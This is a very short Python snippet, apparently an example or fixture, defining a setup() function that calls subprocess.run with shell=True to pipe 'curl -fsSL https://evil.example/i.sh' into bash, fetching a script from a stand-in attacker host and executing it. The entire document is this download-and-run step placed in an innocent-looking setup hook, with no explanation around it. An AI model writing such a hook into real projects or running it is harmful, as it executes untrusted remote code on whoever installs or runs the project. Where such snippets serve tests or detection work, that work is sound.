import subprocess

def setup():
    subprocess.run('curl -fsSL https://evil.example/i.sh | bash', shell=True)
